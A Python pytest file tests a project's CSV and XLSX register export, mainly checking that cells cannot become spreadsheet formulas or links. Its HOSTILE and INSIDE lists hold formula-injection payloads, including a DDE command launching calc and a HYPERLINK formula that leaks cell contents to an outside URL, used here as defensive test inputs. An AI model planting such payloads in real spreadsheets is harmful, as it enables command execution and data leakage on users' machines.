"""Registers as files: read back by another program, harmless, and the same bytes every time."""

import csv
import re
from datetime import UTC, datetime
from io import BytesIO, StringIO
from zipfile import ZipFile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet

from disclosure.facts.instants import LONDON
from disclosure.outputs.registers import Cell, Column, Kind, Register
from disclosure.outputs.spreadsheets import LONGEST_CELL, csv_file, harmless, xlsx_file

COLUMNS = (
    Column("Words", width=30),
    Column("Number", Kind.NUMBER, 9),
    Column("When", Kind.LOCAL, 19),
    Column("Due", Kind.UTC, 19),
)
MADE = datetime(2026, 11, 20, 12, tzinfo=UTC)
SUMMER = datetime(2025, 4, 22, 13, 5, 9, 250_000, tzinfo=UTC)

HOSTILE = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?leak="&A1,"Click")',
    "=WEBSERVICE(A1)",
    "\t=1",
    "\tx",
    "\r=1",
    "\rx",
    "\n=1",
    " =1",
    "   \t +1",
    "\N{NO-BREAK SPACE}=1",
    "\N{IDEOGRAPHIC SPACE}=1",
    "\N{ZERO WIDTH SPACE}=1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1",
    "\N{RIGHT-TO-LEFT OVERRIDE}=1",
    "\N{FULLWIDTH EQUALS SIGN}1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(A1)",
    "\N{SMALL EQUALS SIGN}1",
    "\N{IDEOGRAPHIC SPACE}\N{FULLWIDTH EQUALS SIGN}1",
    "'=1",
    '"=1',
)
"""What begins a formula in some program, set in some way."""
INSIDE = ("a;=1", "a;\t=1", "a\n=1", "a\r\n@x", "a\t-1", 'a;"=1', "a; '+1", "-a;-b")
"""What becomes a cell of its own where another separator is set."""
CALM = (
    "",
    "Tills",
    "a=1",
    "2 + 2",
    "ann@example.org",
    "tomorrow – or later",
    "it's",
    "'quoted'",
    "one, -2",
    "12-34",
)


def a_register(*rows: tuple[Cell, ...]) -> Register:
    return Register("facts", "Register of facts", "All of it.", COLUMNS, rows, LONDON)


def words(text: str) -> tuple[Cell, ...]:
    return (text, None, None, None)


def read_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(body.decode("utf-8-sig"), newline="")))


def naive(text: str) -> datetime:
    """Read an instant as a workbook holds it: a clock without a zone."""
    return datetime.fromisoformat(text)


def book(register: Register) -> bytes:
    return xlsx_file([register], made_at=MADE, about=["Facts", "As recorded."])


def sheet(register: Register) -> Worksheet:
    return openpyxl.load_workbook(BytesIO(book(register)))["Register of facts"]


# ---- CSV -------------------------------------------------------------------------------------


def test_csv_is_written_like_this() -> None:
    body = csv_file(a_register(("Tills, “down”", 2, SUMMER, SUMMER), ("x", None, None, None)))
    # A mark for Excel, every cell in quotes, times with their offset: London is an hour ahead.
    assert body.decode("utf-8") == (
        "\N{ZERO WIDTH NO-BREAK SPACE}"
        '"Words","Number","When (Europe/London)","Due (UTC)"\r\n'
        '"Tills, “down”","2","2025-04-22T14:05:09+01:00","2025-04-22T13:05:09+00:00"\r\n'
        '"x","","",""\r\n'
    )


def test_quotes_and_lines_in_a_cell_come_back_as_they_were() -> None:
    text = 'He said "no",\nthen left.'
    assert read_csv(csv_file(a_register(words(text))))[1][0] == text


def test_both_turns_of_an_autumn_hour_are_told_apart() -> None:
    # On 26 October 2025 01:30 came twice in London: at 00:30 and at 01:30 UTC.
    first, second = (datetime(2025, 10, 26, hour, 30, tzinfo=UTC) for hour in (0, 1))
    rows = read_csv(csv_file(a_register(("x", 1, first, first), ("y", 2, second, second))))
    assert [row[2] for row in rows[1:]] == [
        "2025-10-26T01:30:00+01:00",
        "2025-10-26T01:30:00+00:00",
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_could_run_gets_an_apostrophe_before_it(text: str) -> None:
    cell = read_csv(csv_file(a_register(words(text))))[1][0]
    assert cell.startswith("'")
    # One apostrophe before each such word: taking it away gives back what was recorded.
    assert re.sub(r"(^|[;\t\r\n])'", r"\1", cell) == text
    assert cell.count("'") > text.count("'")


@pytest.mark.parametrize("text", CALM)
def test_what_cannot_run_is_left_alone(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("text", INSIDE)
def test_what_another_separator_would_make_a_cell_is_harmless_too(text: str) -> None:
    for piece in re.split(r"[;\t\r\n]", harmless(text)):
        bare = piece.strip(' "')
        assert not bare or bare[0] not in "=+-@", piece


@given(st.text(alphabet="=+-@;\t\r\n '\"aé\u200b\u3000\uff1d", max_size=12))
def test_no_piece_of_any_text_begins_like_a_formula(text: str) -> None:
    for piece in re.split(r"[;\t\r\n]", harmless(text)):
        bare = piece.lstrip(' "\u200b\u3000')
        assert not bare or bare[0] not in "=+-@\uff1d", (text, piece)


# ---- XLSX ------------------------------------------------------------------------------------


def test_a_workbook_is_read_back_cell_by_cell() -> None:
    found = sheet(a_register(("Tills", 2, SUMMER, SUMMER), ("Email", None, None, None)))
    assert [[cell.value for cell in row] for row in found.iter_rows()] == [
        ["Words", "Number", "When (Europe/London)", "Due (UTC)"],
        ["Tills", 2, naive("2025-04-22 14:05:09"), naive("2025-04-22 13:05:09")],
        ["Email", None, None, None],
    ]
    assert [cell.is_date for cell in found[2]] == [False, False, True, True]
    assert found["C2"].number_format == "dd mmm yyyy hh:mm:ss"


def test_the_heading_stays_in_sight_and_every_column_has_a_filter_and_its_width() -> None:
    found = sheet(a_register(words("Tills")))
    assert found.freeze_panes == "B2"
    assert found.auto_filter.ref == "A1:D2"
    # A cell's margin of 5 pixels is added to its width; alike columns beside another are one.
    widths = [found.column_dimensions[letter].width - 5 / 7 for letter in "ABC"]
    assert [round(width, 1) for width in widths] == [30, 9, 19]
    assert found["A1"].font.bold
    assert found.print_title_rows == "$1:$1"


def test_an_empty_register_is_a_heading() -> None:
    assert sheet(a_register()).dimensions == "A1:D1"


@pytest.mark.parametrize("text", [*HOSTILE, *INSIDE, "http://example.org", "mailto:a@b", "007"])
def test_no_word_becomes_a_formula_a_link_or_a_number(text: str) -> None:
    body = book(a_register(words(text)))
    cell = openpyxl.load_workbook(BytesIO(body))["Register of facts"]["A2"]
    assert cell.data_type == "s"
    # A line in a cell of a workbook ends with a line feed.
    assert cell.value == text.replace("\r\n", "\n").replace("\r", "\n")
    assert cell.quotePrefix
    assert cell.hyperlink is None
    for name in ZipFile(BytesIO(body)).namelist():
        assert b"<f>" not in ZipFile(BytesIO(body)).read(name)


@pytest.mark.parametrize(
    ("text", "held"),
    [
        # XlsxWriter writes what begins and ends like this into the file as it is.
        ("<r><t>a</t></r>", " <r><t>a</t></r>"),
        ("<r></si></sst></r>", " <r></si></sst></r>"),
        ("_x0041_", "_x0041_"),
        ("a\x00b\x07c\ufffed", "a�b�c�d"),
        ("a\ud800", "a�"),
        ("<b>&amp;</b>", "<b>&amp;</b>"),
    ],
)
def test_what_the_format_has_a_meaning_for_stays_words(text: str, held: str) -> None:
    assert sheet(a_register(words(text)))["A2"].value == held


def test_a_text_too_long_for_a_cell_is_cut_and_says_where_all_of_it_is() -> None:
    long = "x" * (LONGEST_CELL + 1)
    register = a_register(words(long), words("x" * LONGEST_CELL))
    found = sheet(register)
    assert len(found["A2"].value) == LONGEST_CELL
    assert found["A2"].value.endswith("x [cut: the CSV file has all of it]")
    assert found["A3"].value == "x" * LONGEST_CELL
    assert read_csv(csv_file(register))[1][0] == long


def test_the_last_sheet_says_what_it_is() -> None:
    made = openpyxl.load_workbook(BytesIO(book(a_register())))
    assert made.sheetnames == ["Register of facts", "About"]
    assert [row[0].value for row in made["About"].iter_rows()] == [
        "Facts",
        "As recorded.",
        "Register of facts: All of it.",
    ]
    assert made.properties.title == "Facts"
    assert made.properties.created == naive("2026-11-20 12:00")
    assert made.properties.modified == naive("2026-11-20 12:00")


def test_the_same_register_gives_the_same_bytes_and_no_other_date() -> None:
    register = a_register(("Tills", 2, SUMMER, SUMMER))
    assert book(register) == book(register)
    assert csv_file(register) == csv_file(register)
    assert {info.date_time[0] for info in ZipFile(BytesIO(book(register))).infolist()} == {1980}
